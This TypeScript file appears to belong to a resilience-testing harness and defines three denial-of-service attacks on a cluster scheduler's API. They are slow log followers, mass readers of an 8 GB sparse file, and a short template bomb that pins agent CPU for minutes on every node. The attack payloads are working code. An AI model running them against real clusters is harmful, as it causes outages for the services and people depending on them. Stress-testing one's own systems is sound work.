/** Jobs that burden their nodes, and readers of their output. */
import { hammer, openSockets, requestBytes, untilOver } from '../attack-connection.ts'
import { IDLE_TASK, register, startTask, taskJob } from '../attacker-calls.ts'
import type { Attack } from '../attack.ts'

/** A short template that takes minutes of CPU to render. */
const TEMPLATE_BOMB =
  '{{ $a := sprig_repeat 4000000 "a" }}{{ range loop 3000 }}{{ $a | toUpper | len }}{{ end }}'
const NODES = 2
const FOLLOWERS = 100
const FILE_READERS = 32
/** A sparse file: it takes no disk space. */
const SPARSE_FILE_BYTES = '8G'
/** Some 20 MB a second, so that the task itself does not saturate the machine. */
const NOISY = 'while :; do head -c 1000000 /dev/zero | tr "\\0" x; echo; sleep 0.05; done'

export const taskAttacks: readonly Attack[] = [
  {
    name: 'log-followers',
    summary: '100 followers that do not read the log of a task that writes 20 MB/s',
    async prepare(assault) {
      const { target } = assault
      const noisy = { name: 'noisy', command: '/usr/bin/timeout', args: ['120', 'sh', '-c', NOISY] }
      const allocation = await startTask(target, noisy)
      const query = `task=main&type=stdout&follow=true&plain=true&namespace=${target.namespace}`
      const path = `/v1/client/fs/logs/${allocation}?${query}`
      const request = requestBytes({ path, headers: { 'x-service-token': target.token } })
      return async () => {
        for (const socket of await openSockets(assault, FOLLOWERS)) {
          socket.once('data', (chunk: Buffer) => {
            assault.count(chunk.toString('latin1', 9, 12))
            socket.pause()
          })
          socket.write(request)
        }
        await untilOver(assault)
      }
    },
  },
  {
    name: 'fs-cat',
    summary: '32 readers of a sparse file of 8 GB',
    async prepare(assault) {
      const { target } = assault
      const script = `truncate -s ${SPARSE_FILE_BYTES} "$REEVE_ALLOC_DIR/data/hole"; exec sleep 600`
      const sparse = { name: 'sparse', command: '/bin/sh', args: ['-c', script] }
      const allocation = await startTask(target, sparse)
      const query = `path=alloc/data/hole&namespace=${target.namespace}`
      const path = `/v1/client/fs/cat/${allocation}?${query}`
      const request = requestBytes({ path, headers: { 'x-service-token': target.token } })
      return () => hammer(assault, () => request, { connections: FILE_READERS })
    },
  },
  // The last attack: agents that render it may have to be killed.
  {
    name: 'template',
    summary: 'a template of 90 bytes that renders for minutes, on every node',
    prepare: ({ target, count }) =>
      Promise.resolve(async () => {
        const job = taskJob(target, { ...IDLE_TASK, name: 'template' })
        const Templates = [{ EmbeddedTmpl: TEMPLATE_BOMB, DestPath: 'local/x' }]
        const TaskGroups = job.TaskGroups.map((group) => ({
          ...group,
          Count: NODES,
          Constraints: [{ Operand: 'distinct_hosts', RTarget: 'true' }],
          Tasks: group.Tasks.map((task) => ({ ...task, Templates })),
        }))
        await register(target, { ...job, TaskGroups }).then(
          () => count('registered'),
          () => count('refused'),
        )
      }),
  },
]
